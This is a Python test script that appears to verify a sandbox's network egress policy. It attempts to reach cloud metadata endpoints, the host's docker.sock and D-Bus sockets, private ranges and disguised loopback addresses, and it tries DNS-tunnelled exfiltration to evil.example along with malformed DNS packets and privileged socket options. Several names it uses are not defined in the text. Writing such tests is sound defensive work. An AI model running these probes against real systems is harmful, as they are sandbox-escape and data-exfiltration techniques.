"""Reaching what the egress policy forbids, and sockets that a script has no business with."""

import subprocess
import threading
import urllib.request


def connects(host, port, family=socket.AF_UNSPEC):
    """Connects and reads: a connection that is cut before a byte came counts as refused."""
    for kind, _, protocol, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        with socket.socket(kind, socket.SOCK_STREAM, protocol) as client:
            client.settimeout(5)
            client.connect(address)
            client.sendall(b"GET / HTTP/1.0\r\n\r\n")
            got = client.recv(64)
            if not got:
                raise ConnectionResetError(errno.ECONNRESET, "closed without a byte")
            return got
    raise OSError(errno.EHOSTUNREACH, "no address")


def raw_sockets():
    held("raw ICMP", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    held("raw TCP", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    held("raw IPv6", socket.socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    held("ping sockets", socket.socket, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


def packet_sockets():
    held("packets as they pass", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    held("cooked packets", socket.socket, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))


def machine_sockets():
    held("the hypervisor's sockets", socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)


def netlink_sockets():
    for name, protocol in {"route": 0, "firewall": 12, "audit": 9, "kobject": 15, "generic": 16}.items():
        held(f"netlink {name}", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, protocol)


def odd_families():
    for name, family in {"AF_ALG": 38, "AF_BLUETOOTH": 31, "AF_CAN": 29, "AF_XDP": 44, "AF_KEY": 15, "AF_TIPC": 30, "AF_RDS": 21, "AF_NFC": 39, "AF_X25": 9}.items():
        held(name, socket.socket, family, socket.SOCK_DGRAM)
        held(name + " raw", socket.socket, family, socket.SOCK_RAW)
    held("SCTP", socket.socket, socket.AF_INET, socket.SOCK_STREAM, 132)
    held("MPTCP", socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262)


def abstract_sockets():
    # The test listens on this abstract name on the host.
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    held("the host's abstract socket", client.connect, "\0" + os.environ["HOST_ABSTRACT"])


def named_sockets():
    for path in (os.environ["HOST_SOCKET"], "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        held(path, client.connect, path)


def loopback_of_the_host():
    port = int(os.environ["HOST_PORT"])
    for host in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost"):
        held(f"{host}:{port}", connects, host, port)
    for host in ("::1", "::", "::ffff:127.0.0.1", "::127.0.0.1"):
        held(f"[{host}]:{port}", connects, host, port, socket.AF_INET6)


def private_ranges():
    for host in ("10.0.0.1", "172.16.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1", "169.254.1.1", os.environ["HOST_ADDRESS"]):
        for port in (22, 80, 443, int(os.environ["HOST_PORT"])):
            held(f"{host}:{port}", connects, host, port)
    for host in ("fc00::1", "fe80::1", "64:ff9b::10.0.0.1", "2002:0a00:0001::1", "::ffff:10.0.0.1"):
        held(f"[{host}]:80", connects, host, 80, socket.AF_INET6)


def metadata_service():
    for host in ("169.254.169.254", "100.100.100.200", "192.0.0.192"):
        held(f"http://{host}", urllib.request.urlopen, f"http://{host}/latest/meta-data/", None, 5)
    held("the IPv6 metadata address", connects, "fd00:ec2::254", 80, socket.AF_INET6)
    held("metadata.google.internal", urllib.request.urlopen, "http://metadata.google.internal/", None, 5)


def addresses_in_disguise():
    port = int(os.environ["HOST_PORT"])
    for host in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1"):
        held(f"{host}:{port}", connects, host, port)


def datagrams():
    """UDP goes nowhere but to the resolver: no answer, or an error at once."""
    for host in ("127.0.0.1", "8.8.8.8", os.environ["HOST_ADDRESS"]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.3)

            def echo(address=host, port=int(os.environ["HOST_UDP_PORT"])):
                client.sendto(b"echo", (address, port))
                return client.recv(16)

            held(f"UDP to {host}", echo)


def multicast_and_broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.3)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)

        def answer(address):
            client.sendto(b"echo", (address, int(os.environ["HOST_UDP_PORT"])))
            return client.recv(16)

        held("broadcast", answer, "255.255.255.255")
        held("multicast", answer, "224.0.0.1")


def listen_for_others():
    """A script may listen for itself; the test then looks for that port on the host."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        server.bind(("0.0.0.0", int(os.environ["LISTEN_PORT"])))
        server.listen()
    except OSError as error:
        check(f"no port of its own ({errno.errorcode[error.errno]})", True)
        return
    server.settimeout(1)
    held("someone else connects", server.accept)


def unlisted_hosts():
    """With an allow-list, names that are not on it don't resolve and are not reached by address either."""
    for host in ("evil.example", "allowed.example.evil.example", "xallowed.example"):
        held(host, connects, host, 443)
    held("a public address that is not listed", connects, "93.184.215.14", 443)


def smuggle_by_dns():
    """Names as a channel: a resolver that passed them on would carry data out. Here a name gets an address of the run's
    own, and goes no further than the list says; the host that the test records would show otherwise."""
    held("a name with data in it", connects, "c2VjcmV0.evil.example", 443)
    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x07example\x00" + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.sendto(query, ("127.0.0.1", 53))
        try:
            answer = client.recv(512)
        except OSError as error:
            check(f"no answer ({error})", True)
            return
    check("no record of that name came from outside", b"planted" not in answer, answer)


def hostile_dns_packets():
    """The resolver must survive anything; the lookup afterwards shows that it did."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.2)
        for packet in (b"", b"\0", b"\xff" * 12, b"\0" * 512, b"\0\1\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", b"\0\1\1\0\xff\xff\0\0\0\0\0\0" + b"\x3f" + b"a" * 63):
            client.sendto(packet, ("127.0.0.1", 53))
            try:
                client.recv(512)
            except OSError:
                continue
    try:
        socket.getaddrinfo("allowed.example", 443)
    except socket.gaierror as error:
        # Listed, and not to be found in the world: an answer, where a dead resolver would give none.
        check("the resolver still answers", error.errno == socket.EAI_NONAME, error)
    held("evil.example is still refused", connects, "evil.example", 443)


def take_over_the_resolver():
    for port in (53,):
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        held(f"bind 127.0.0.1:{port}", server.bind, ("127.0.0.1", port))


def many_connections():
    """More connections than a run may have at once: none carries a byte, and the run ends as any other."""
    kept = []
    for _ in range(200):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("192.0.2.1", 443))
        kept.append(client)
    for client in kept[:3] + kept[-3:]:
        client.settimeout(1)
        held("a byte", lambda c=client: c.recv(1) or (_ for _ in ()).throw(OSError(errno.ECONNRESET, "closed")))


def change_the_interface():
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        held("take lo down", fcntl.ioctl, any_socket, 0x8914, struct.pack("16sH22x", b"lo", 0))
        held("add a route", fcntl.ioctl, any_socket, 0x890B, bytes(120))
        held("a tunnel device", os.open, "/dev/net/tun", os.O_RDWR)


def data_in_the_first_packet():
    """TCP fast open sends before a connection stands."""
    port = int(os.environ["HOST_PORT"])
    for address in ("127.0.0.1", "169.254.169.254", os.environ["HOST_ADDRESS"]):
        with socket.socket() as client:
            client.settimeout(5)

            def ask(to=(address, port), by=client):
                by.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, to)
                return by.recv(64) or (_ for _ in ()).throw(OSError(errno.ECONNRESET, "closed"))

            held(f"fast open to {address}", ask)


def routes_in_the_packet():
    """A source route names another host than the one that is connected to."""
    port = int(os.environ["HOST_PORT"])
    with socket.socket() as client:
        client.settimeout(5)

        def ask():
            hop, last = socket.inet_aton("198.18.0.1"), socket.inet_aton("127.0.0.1")
            client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x01\x83\x0b\x04" + hop + last)
            client.connect((os.environ["HOST_ADDRESS"], port))
            return client.recv(64) or (_ for _ in ()).throw(OSError(errno.ECONNRESET, "closed"))

        held("a source route", ask)


def privileged_options():
    for name, level, option, value in (
        ("a mark", socket.SOL_SOCKET, 36, struct.pack("I", 3)),
        ("another device", socket.SOL_SOCKET, 25, b"eth0\0"),
        ("send around queues", socket.SOL_SOCKET, 33, struct.pack("I", 1 << 28)),
        ("transparent addresses", socket.IPPROTO_IP, 19, struct.pack("I", 1)),
        ("new rules", socket.IPPROTO_IP, 64, bytes(84)),
        ("repair", socket.IPPROTO_TCP, 19, struct.pack("I", 1)),
    ):
        with socket.socket() as client:
            held(name, client.setsockopt, level, option, value)


def the_ends_that_are_served():
    """Ports of the namespace at which the supervisor listens: connected to by themselves they lead nowhere."""
    held("the turned connections' port", connects, "127.0.0.1", 1023)
    with socket.socket() as server:
        held("take that port", server.bind, ("0.0.0.0", 1023))
    with socket.socket() as client:
        client.bind(("203.0.113.7", 0))
        held("from an address of somebody else", client.connect, ("10.0.0.1", 80))


def many_short_connections():
    """Refused ones count as well: past the limit of all that a run may try, the reason is another, and the run goes on."""
    refused = 0
    for _ in range(1_000):
        with socket.socket() as client:
            refused += client.connect_ex(("10.0.0.1", 80)) != 0
    check("each was refused", refused == 1_000, refused)


def resolvers_of_others():
    """A question to any server is answered by the run's own, with an address of the run's own."""
    query = struct.pack(">HHHHHH", 9, 0x0100, 1, 0, 0, 0) + b"\x04evil\x07example\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.connect(("9.9.9.9", 53))
        client.send(query)
        answer = client.recv(512)
    check("the answer is the run's own", answer[-4:-2] == bytes((198, 18)) or answer[3] & 0x0F == 3, answer)


def programs_on_sockets():
    """Filters of packets, and protocols that the kernel would speak in the script's place."""
    instruction = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0xFFFF))
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(instruction))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        held("a filter of packets", client.setsockopt, socket.SOL_SOCKET, 26, program)
        held("a filter for groups of sockets", client.setsockopt, socket.SOL_SOCKET, 51, program)
        held("a program of bpf", client.setsockopt, socket.SOL_SOCKET, 50, struct.pack("i", 0))
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        for layer in (b"tls", b"espintcp", b"smc", b"mptcp"):
            held(f"the layer {layer.decode()}", client.setsockopt, socket.IPPROTO_TCP, 31, layer)
